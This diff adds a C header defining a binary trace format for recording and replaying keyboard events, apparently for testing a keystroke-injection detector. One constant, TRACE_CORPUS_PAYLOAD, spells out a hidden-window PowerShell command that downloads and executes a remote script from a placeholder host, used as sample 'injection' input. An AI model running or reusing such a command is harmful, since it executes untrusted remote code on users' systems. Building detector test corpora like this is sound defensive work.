@@ -0,0 +1,233 @@
+/********************************************************************************
+*  File:		Trace.h															*
+*  Purpose:		Compact device event traces, for recording and replaying.		*
+********************************************************************************/
+#pragma once
+
+
+/** Includes *******************************************************************/
+#include <Utilities.h>
+#include "../EventSource/EventSource.h"
+
+
+/** Constants ******************************************************************/
+
+/********************************************************************************
+*  Constant:	TRACE_FILE_MAGIC												*
+*  Purpose:		The trace file signature (8 characters, including the format	*
+*				version).														*
+********************************************************************************/
+#define TRACE_FILE_MAGIC ("ADTRACE1")
+
+/********************************************************************************
+*  Constant:	TRACE_FLAG_KEYSTROKES											*
+*  Purpose:		File flag: the recorded source delivered key events.			*
+********************************************************************************/
+#define TRACE_FLAG_KEYSTROKES (0x01)
+
+/********************************************************************************
+*  Constant:	TRACE_FLAG_CLOCK												*
+*  Purpose:		File flag: the header holds the recorder's clock offset (see	*
+*				DECISION_GetClockOffset), events keep their timestamps, and		*
+*				clock records follow the offset as it moves.					*
+********************************************************************************/
+#define TRACE_FLAG_CLOCK (0x02)
+
+/********************************************************************************
+*  Constant:	TRACE_NO_CLOCK													*
+*  Purpose:		Records a trace without a clock offset.							*
+********************************************************************************/
+#define TRACE_NO_CLOCK (~0ULL)
+
+/********************************************************************************
+*  Constant:	TRACE_EPOCH_NS													*
+*  Purpose:		The timestamp replayed for the first event of a trace without	*
+*				a clock offset.													*
+*  Remarks:		* Non-zero, as the cadence detector treats 0 as "no key yet".	*
+********************************************************************************/
+#define TRACE_EPOCH_NS (1000000000ULL)
+
+/********************************************************************************
+*  Constant:	TRACE_CORPUS_TEXT												*
+*  Purpose:		The text the human traces of the corpus type (US layout),		*
+*				TRACE_CORPUS_TEXT_REPEATS times.								*
+********************************************************************************/
+#define TRACE_CORPUS_TEXT ("the quick brown fox jumps over the lazy dog. pack my box with five dozen liquor jugs, " \
+	"then sphinx of black quartz judge my vow. 1234567890 and\n")
+
+/********************************************************************************
+*  Constant:	TRACE_CORPUS_TEXT_REPEATS										*
+*  Purpose:		How many times the human traces type TRACE_CORPUS_TEXT.			*
+********************************************************************************/
+#define TRACE_CORPUS_TEXT_REPEATS (3)
+
+/********************************************************************************
+*  Constant:	TRACE_CORPUS_PAYLOAD											*
+*  Purpose:		The text the injection traces of the corpus type (US layout).	*
+********************************************************************************/
+#define TRACE_CORPUS_PAYLOAD ("powershell -noprofile -windowstyle hidden -command iwr http example com slash p ps1 pipe iex\n")
+
+
+/** Typedefs *******************************************************************/
+
+/********************************************************************************
+*  Structure:	TRACE_WRITER													*
+*  Purpose:		A trace being recorded.											*
+*  Remarks:		* File layout: TRACE_FILE_MAGIC, a flags byte, the clock offset	*
+*					if flagged (8 bytes), then one record per event:			*
+*					- Tag byte: event type (bits 0-1), keyboard (bit 2), key	*
+*						down (bit 3), identity (bit 4), name (bit 5).			*
+*					- Nanoseconds since the previous event (for the first,		*
+*						its timestamp with a clock offset, 0 otherwise) and the	*
+*						device ID, as LEB128 varints.							*
+*					- Key events: the scan code (2 bytes).						*
+*					- With an identity: VID, PID (2 bytes each), the instance	*
+*						length (1 byte) and characters.							*
+*					- With a name: its length (1 byte) and characters.			*
+*				* A clock record (see TRACE_WriteClock) is a tag byte of 0x03	*
+*					and the new clock offset as a LEB128 varint, for the		*
+*					events after it.											*
+*				* Integers are little endian. A key record takes 7 to 9 bytes.	*
+********************************************************************************/
+typedef struct _TRACE_WRITER
+{
+	FILE *ptFile;									// The trace file
+	ULONGLONG qwLastTimestamp;						// Previous event time, or 0 before the first
+	BOOL bHasClock;									// Whether timestamps are kept
+	DWORD dwEvents;									// Events written
+} TRACE_WRITER, *PTRACE_WRITER;
+
+/********************************************************************************
+*  Structure:	TRACE_READER													*
+*  Purpose:		A trace being replayed, loaded as a whole.						*
+********************************************************************************/
+typedef struct _TRACE_READER
+{
+	PBYTE pbFile;									// The file contents
+	const BYTE *pbCurrent;							// Next record
+	const BYTE *pbEnd;								// End of the file
+	ULONGLONG qwTimestamp;							// Replayed time of the previous event
+	ULONGLONG qwClockOffset;						// Turns replayed times into the local time of day
+	ULONGLONG qwFirstClockOffset;					// The header's clock offset
+	BOOL bHasClock;									// Whether replayed times are the recorded ones
+	BOOL bDeliversKeystrokes;						// Whether the recorded source delivered key events
+	BOOL bIsCorrupt;								// Whether reading stopped at a malformed record
+} TRACE_READER, *PTRACE_READER;
+
+
+/** Functions ******************************************************************/
+
+/********************************************************************************
+*  Function:	TRACE_Create													*
+*  Purpose:		Creates a trace file.											*
+*  Parameters:	@ pszPath ~[in]~ The file (replaced if it exists).				*
+*				@ bDeliversKeystrokes ~[in]~ Whether the recorded source		*
+*				delivers key events.											*
+*				@ qwClockOffset ~[in]~ The recorder's clock offset (see			*
+*				DECISION_GetClockOffset), or TRACE_NO_CLOCK.					*
+*				@ ptWriter ~[out]~ Gets the writer.								*
+*  Returns:		A RETSTATUS.													*
+*  Remarks:		* Close with TRACE_CloseWriter.									*
+********************************************************************************/
+RETSTATUS
+TRACE_Create(
+	__in_z PCSTR pszPath,
+	__in BOOL bDeliversKeystrokes,
+	__in ULONGLONG qwClockOffset,
+	__out PTRACE_WRITER ptWriter
+);
+
+/********************************************************************************
+*  Function:	TRACE_Write														*
+*  Purpose:		Appends an event to a trace.									*
+*  Parameters:	@ ptWriter ~[inout]~ The writer.								*
+*				@ ptEvent ~[in]~ The event, timestamps not older than the		*
+*				previous event's.												*
+*  Returns:		FALSE on a write error.											*
+*  Remarks:		* Buffered, never flushes by itself.							*
+********************************************************************************/
+BOOL
+TRACE_Write(
+	__inout PTRACE_WRITER ptWriter,
+	__in PCEVENTSOURCE_EVENT ptEvent
+);
+
+/********************************************************************************
+*  Function:	TRACE_WriteClock												*
+*  Purpose:		Appends a clock record: the events after it have a new clock	*
+*				offset.															*
+*  Parameters:	@ ptWriter ~[inout]~ The writer, created with a clock offset.	*
+*				@ qwClockOffset ~[in]~ The new clock offset (see				*
+*				DECISION_GetClockOffset).										*
+*  Returns:		FALSE on a write error.											*
+*  Remarks:		* Buffered, never flushes by itself.							*
+********************************************************************************/
+BOOL
+TRACE_WriteClock(
+	__inout PTRACE_WRITER ptWriter,
+	__in ULONGLONG qwClockOffset
+);
+
+/********************************************************************************
+*  Function:	TRACE_CloseWriter												*
+*  Purpose:		Flushes and closes a trace.										*
+*  Parameters:	@ ptWriter ~[inout]~ The writer (may be zeroed).				*
+********************************************************************************/
+VOID
+TRACE_CloseWriter(
+	__inout PTRACE_WRITER ptWriter
+);
+
+/********************************************************************************
+*  Function:	TRACE_Open														*
+*  Purpose:		Loads a trace file for replaying.								*
+*  Parameters:	@ pszPath ~[in]~ The file.										*
+*				@ ptReader ~[out]~ Gets the reader.								*
+*  Returns:		A RETSTATUS.													*
+*  Remarks:		* Close with TRACE_CloseReader.									*
+********************************************************************************/
+RETSTATUS
+TRACE_Open(
+	__in_z PCSTR pszPath,
+	__out PTRACE_READER ptReader
+);
+
+/********************************************************************************
+*  Function:	TRACE_Read														*
+*  Purpose:		Reads the next event.											*
+*  Parameters:	@ ptReader ~[inout]~ The reader.								*
+*				@ ptEvent ~[out]~ Gets the event, timestamped as recorded		*
+*				with a clock offset, or on the trace's own clock (starting		*
+*				at TRACE_EPOCH_NS) without.										*
+*  Returns:		FALSE at the end of the trace, or at a malformed record (see	*
+*				bIsCorrupt).													*
+*  Remarks:		* Does not contain telemetries on purpose.						*
+*				* Never allocates.												*
+*				* Follows the clock records before the event, the event's		*
+*					clock offset is then qwClockOffset.							*
+********************************************************************************/
+BOOL
+TRACE_Read(
+	__inout PTRACE_READER ptReader,
+	__out PEVENTSOURCE_EVENT ptEvent
+);
+
+/********************************************************************************
+*  Function:	TRACE_Rewind													*
+*  Purpose:		Restarts reading from the first event.							*
+*  Parameters:	@ ptReader ~[inout]~ The reader.								*
+********************************************************************************/
+VOID
+TRACE_Rewind(
+	__inout PTRACE_READER ptReader
+);
+
+/********************************************************************************
+*  Function:	TRACE_CloseReader												*
+*  Purpose:		Frees a loaded trace.											*
+*  Parameters:	@ ptReader ~[inout]~ The reader (may be zeroed).				*
+********************************************************************************/
+VOID
+TRACE_CloseReader(
+	__inout PTRACE_READER ptReader
+);